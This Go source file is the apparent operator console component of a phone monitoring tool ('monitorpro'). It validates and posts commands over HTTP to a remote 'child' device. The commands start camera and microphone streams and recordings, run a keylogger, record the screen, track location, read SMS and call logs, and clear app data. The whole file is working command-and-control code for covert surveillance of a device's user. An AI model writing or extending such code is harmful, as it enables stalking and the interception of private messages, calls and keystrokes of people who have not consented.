// Package commands builds, validates and dispatches operator commands to a
// remote agent through the relay's HTTP API.
package commands

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"time"

	"github.com/monitorpro/console/pkg/errorsx"
	"github.com/monitorpro/console/pkg/playback"
	"github.com/monitorpro/console/pkg/status"
	"github.com/monitorpro/console/pkg/timeline"
)

const (
	StartCamera          = "start_camera"
	RecordCamera         = "record_camera"
	StopCamera           = "stop_camera"
	StartAudio           = "start_audio"
	RecordAudio          = "record_audio"
	StopAudio            = "stop_audio"
	StartKeylogger       = "start_keylogger"
	StopKeylogger        = "stop_keylogger"
	StartScreenRecording = "start_screen_recording"
	StopScreenRecording  = "stop_screen_recording"
	StartLocation        = "start_location"
	ReadSms              = "read_sms"
	ReadCallLog          = "read_call_log"
	GetDeviceInfo        = "get_device_info"
	ClearCache           = "clear_cache"
	ClearData            = "clear_data"
	ReconnectChild       = "reconnect_child"
)

var ValidResolutions = []string{"320x240", "640x480", "1280x720"}

var ValidSampleRates = []int{8000, 11025, 16000, 22050, 44100, 48000}

var ValidMicTypes = []string{"default", "front", "back", "voice"}

// Request is the JSON body posted to /api/command/{device}. Only the
// fields relevant to the command are populated.
type Request struct {
	Command    string `json:"command"`
	FPS        int    `json:"fps,omitempty"`
	Resolution string `json:"resolution,omitempty"`
	CameraType string `json:"cameraType,omitempty"`
	MicType    string `json:"micType,omitempty"`
	SampleRate int    `json:"sampleRate,omitempty"`
	Duration   int    `json:"duration,omitempty"`
}

// CameraOptions configures start_camera and record_camera.
type CameraOptions struct {
	FPS        int
	Resolution string
	CameraType string
}

// AudioOptions configures start_audio and record_audio.
type AudioOptions struct {
	MicType    string
	SampleRate int
}

// ScreenRecordOptions configures start_screen_recording.
type ScreenRecordOptions struct {
	Duration int
	FPS      int
}

// BuildCamera validates camera parameters. FPS is clamped to [1, 30]; an
// unknown resolution or camera type is rejected.
func BuildCamera(command string, opts CameraOptions) (Request, error) {
	fps := opts.FPS
	if fps < 1 {
		fps = 1
	}
	if fps > 30 {
		fps = 30
	}
	if !containsString(ValidResolutions, opts.Resolution) {
		return Request{}, errorsx.Wrap(fmt.Errorf("invalid resolution %q", opts.Resolution), errorsx.ReasonCommandValidate)
	}
	cameraType := "back"
	if opts.CameraType == "front" {
		cameraType = "front"
	}
	return Request{Command: command, FPS: fps, Resolution: opts.Resolution, CameraType: cameraType}, nil
}

// BuildAudio validates audio parameters against the fixed sample-rate and
// microphone enumerations.
func BuildAudio(command string, opts AudioOptions) (Request, error) {
	if !containsInt(ValidSampleRates, opts.SampleRate) {
		return Request{}, errorsx.Wrap(fmt.Errorf("invalid sample rate %d", opts.SampleRate), errorsx.ReasonCommandValidate)
	}
	if !containsString(ValidMicTypes, opts.MicType) {
		return Request{}, errorsx.Wrap(fmt.Errorf("invalid microphone type %q", opts.MicType), errorsx.ReasonCommandValidate)
	}
	return Request{Command: command, MicType: opts.MicType, SampleRate: opts.SampleRate}, nil
}

// BuildScreenRecord validates screen recording parameters.
func BuildScreenRecord(opts ScreenRecordOptions) (Request, error) {
	if opts.Duration <= 0 {
		return Request{}, errorsx.Wrap(fmt.Errorf("invalid duration %d", opts.Duration), errorsx.ReasonCommandValidate)
	}
	return Request{Command: StartScreenRecording, Duration: opts.Duration, FPS: opts.FPS}, nil
}

// Dispatcher posts commands and applies the optimistic local status
// transitions that precede server confirmation. On dispatch failure the
// start commands flip their capability to Failed; recovery is manual.
type Dispatcher struct {
	baseURL  string
	client   *http.Client
	logger   *slog.Logger
	status   *status.Tracker
	timeline *timeline.Aggregator
	pipeline *playback.Pipeline
}

func NewDispatcher(baseURL string, st *status.Tracker, tl *timeline.Aggregator, pl *playback.Pipeline, logger *slog.Logger) *Dispatcher {
	if logger == nil {
		logger = slog.Default()
	}
	return &Dispatcher{
		baseURL:  baseURL,
		client:   &http.Client{Timeout: 15 * time.Second},
		logger:   logger,
		status:   st,
		timeline: tl,
		pipeline: pl,
	}
}

// Send dispatches one command to the selected device.
func (d *Dispatcher) Send(ctx context.Context, deviceID string, req Request) error {
	d.applyOptimistic(req)

	body, err := json.Marshal(req)
	if err != nil {
		return errorsx.Wrap(err, errorsx.ReasonCommandSend)
	}
	httpReq, err := http.NewRequestWithContext(ctx, http.MethodPost, d.baseURL+"/api/command/"+deviceID, bytes.NewReader(body))
	if err != nil {
		return errorsx.Wrap(err, errorsx.ReasonCommandSend)
	}
	httpReq.Header.Set("Content-Type", "application/json")

	resp, err := d.client.Do(httpReq)
	if err == nil {
		resp.Body.Close()
		if resp.StatusCode >= 300 {
			err = fmt.Errorf("command status %d", resp.StatusCode)
		}
	}
	if err != nil {
		d.logger.Error("command_dispatch_failed",
			"command", req.Command,
			"error", err.Error(),
			"reason_code", string(errorsx.ReasonCommandSend),
		)
		d.timeline.Notify("Error", "Command failed: "+req.Command)
		d.applyFailure(req.Command)
		return errorsx.Wrap(err, errorsx.ReasonCommandSend)
	}
	d.logger.Info("command_sent", "command", req.Command, "device_id", deviceID)
	return nil
}

func (d *Dispatcher) applyOptimistic(req Request) {
	switch req.Command {
	case StartCamera:
		_ = d.status.Transition(status.CapVideo, status.Connecting, "start command issued")
		d.timeline.Notify("Video", "Starting video stream")
	case RecordCamera:
		_ = d.status.Transition(status.CapVideo, status.Recording, "record command issued")
		d.timeline.Notify("Video", "Recording video")
	case StopCamera:
		_ = d.status.Transition(status.CapVideo, status.Disconnected, "stop command issued")
		d.timeline.Notify("Video", "Stopped video stream")
	case StartAudio:
		_ = d.status.Transition(status.CapAudio, status.Connecting, "start command issued")
		d.timeline.Notify("Audio", "Starting audio stream")
	case RecordAudio:
		_ = d.status.Transition(status.CapAudio, status.Recording, "record command issued")
		d.timeline.Notify("Audio", "Recording audio")
	case StopAudio:
		_ = d.status.Transition(status.CapAudio, status.Disconnected, "stop command issued")
		d.pipeline.Reset()
		d.timeline.Notify("Audio", "Stopped audio stream")
	case StartKeylogger:
		_ = d.status.Transition(status.CapKeylogger, status.Connecting, "start command issued")
		d.timeline.Notify("Keylogger", "Starting keylogger")
	case StopKeylogger:
		_ = d.status.Transition(status.CapKeylogger, status.Disconnected, "stop command issued")
		d.timeline.Notify("Keylogger", "Stopped keylogger")
	case StartScreenRecording:
		_ = d.status.Transition(status.CapScreenRecord, status.Recording, "record command issued")
		d.timeline.Notify("Screen Record", "Starting screen recording")
	case StopScreenRecording:
		_ = d.status.Transition(status.CapScreenRecord, status.Disconnected, "stop command issued")
		d.timeline.Notify("Screen Record", "Stopping screen recording")
	case StartLocation:
		d.timeline.Notify("Location", "Requesting location update")
	case ReadSms:
		d.timeline.Notify("Communication", "Fetching SMS messages")
	case ReadCallLog:
		d.timeline.Notify("Communication", "Fetching call logs")
	case GetDeviceInfo:
		d.timeline.Notify("System", "Fetching device information")
	case ClearCache:
		d.timeline.Notify("System", "Clearing cache")
	case ClearData:
		d.timeline.Notify("System", "Clearing app data")
	case ReconnectChild:
		d.timeline.Notify("System", "Attempting device reconnection")
	}
}

func (d *Dispatcher) applyFailure(command string) {
	switch command {
	case StartCamera, RecordCamera:
		_ = d.status.Transition(status.CapVideo, status.Failed, "command dispatch failed")
	case StartAudio, RecordAudio:
		_ = d.status.Transition(status.CapAudio, status.Failed, "command dispatch failed")
	case StartKeylogger:
		_ = d.status.Transition(status.CapKeylogger, status.Failed, "command dispatch failed")
	case StartScreenRecording:
		_ = d.status.Transition(status.CapScreenRecord, status.Failed, "command dispatch failed")
	}
}

func containsString(values []string, v string) bool {
	for _, s := range values {
		if s == v {
			return true
		}
	}
	return false
}

func containsInt(values []int, v int) bool {
	for _, n := range values {
		if n == v {
			return true
		}
	}
	return false
}
